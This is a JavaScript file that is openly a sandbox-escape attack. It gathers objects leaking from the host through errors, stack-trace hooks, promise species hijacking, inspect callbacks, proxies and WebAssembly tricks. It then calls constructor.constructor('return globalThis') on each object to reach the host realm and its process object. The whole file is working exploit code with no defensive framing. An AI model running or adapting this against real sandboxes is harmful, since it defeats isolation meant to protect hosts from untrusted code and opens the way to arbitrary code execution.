const seen = new Set();
const look = (value) => { if (value !== null && ['object', 'function'].includes(typeof value)) seen.add(value); return value; };
const quiet = async (action) => { try { look(await Promise.race([action(), new Promise((done) => setTimeout(done, 50))])); } catch (error) { look(error); } };
const fails = (action) => () => { try { look(action()); } catch (error) { look(error); } };
const deep = (action) => { const fall = () => { try { fall(); } catch { action(); } }; fall(); };

const WAYS = [
  // look at errors and rejections that the runtime makes
  () => require('fs').promises.readFile('/nowhere'),
  () => import(['no', 'such', 'module'].join('-')),
  () => new Promise((done) => require('fs').readFile('/nowhere', done)).then(look),
  fails(() => require('fs').readFileSync(Symbol('x'))),
  fails(() => new (require('vm').Script)('%%%')),
  fails(() => Buffer.from(new Proxy({}, { getPrototypeOf: () => { throw look(new Error('x')); } }))),
  fails(() => structuredClone(() => 0)),
  fails(() => deep(() => { try { Buffer.alloc(1).toString('latin1'); require('util').inspect(new Array(9)); } catch (error) { look(error); throw error; } })),
  () => WebAssembly.compileStreaming(Promise.resolve({ [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { look(options); look(inspect); return ''; } })),
  async () => { const one = (async function* () { yield 1; })(); await one.next(); await one.return({ then: () => deep(() => { require('util').inspect([]); }) }); },
  async () => { for await (const one of (async function* () { yield* { [Symbol.asyncIterator]: () => ({ next: () => import(['no', 'such'].join('-')), return: () => { throw look(new Error('x')); } }) }; })()) look(one); },
  async () => {
    const wasm = Uint8Array.from(Buffer.from('0061736d01000000010401600000020701016d016600000705010166' + '0000', 'hex'));
    const { instance } = await WebAssembly.instantiate(wasm, { m: { f: new WebAssembly.Suspending(async () => { throw new Error('x'); }) } });
    const promise = WebAssembly.promising(instance.exports.f)();
    look(promise);
    promise.constructor = { [Symbol.species]: class { constructor(executor) { executor(look, look); } } };
    promise.finally(() => 0);
    await promise.catch(look);
  },
  () => require('process'),
  () => require('inspector/promises'),
  // look at arguments that the runtime passes to callbacks
  fails(() => require('util').inspect({ [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { look(options); look(inspect); return 'x'; } })),
  fails(() => console.log({ [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { look(this); look(options); look(inspect); return 'x'; } })),
  () => new Promise((done) => setTimeout(function () { look(this); look(arguments); done(); }, 0)),
  () => new Promise((done) => process.nextTick(function () { look(this); look(arguments); done(); })),
  fails(() => new Proxy(class {}, { get: (...given) => given.forEach(look), apply: (...given) => given.forEach(look) }).x),
  // look at the objects that the runtime uses while it formats an error
  async () => {
    const error = new Error('x');
    error.name = { toString: new Proxy(() => '', { apply: (target, self, given) => { look(self); look(given); return ''; } }) };
    await (async () => error.stack)();
  },
  async () => { const error = new Error('x'); error.name = Symbol('x'); await (async () => error.stack)(); },
  // make the runtime construct a promise of the attacker's class
  async () => {
    const promise = require('fs').promises.readFile('/nowhere');
    promise.constructor = { [Symbol.species]: class { constructor(executor) { executor(look, look); } } };
    promise.then();
    await promise.catch(look);
  },
  async () => { const then = Promise.prototype.then; Promise.prototype.then = function (...given) { look(this); return then.apply(this, given); }; try { await import(['node', 'fs'].join(':')); } finally { Promise.prototype.then = then; } },
  fails(() => { const set = WeakMap.prototype.set; WeakMap.prototype.set = function (...given) { given.forEach(look); return set.apply(this, given); }; try { require('util').inspect(new Map()); } finally { WeakMap.prototype.set = set; } }),
];

const attack = async () => {
  Error.prepareStackTrace = (error, sites) => { look(error); for (const site of sites) { look(site); look(site.getThis?.()); look(site.getFunction?.()); } return 'x'; };
  for (const way of WAYS) await quiet(way);
  delete Error.prepareStackTrace;
  for (const value of seen) {
    for (const from of [value, Object.getPrototypeOf(value) ?? value]) {
      try {
        const there = from.constructor.constructor('return globalThis')();
        if (there !== globalThis) return `reached ${typeof there.process} by ${String(value).slice(0, 80)}`;
      } catch {}
    }
  }
};
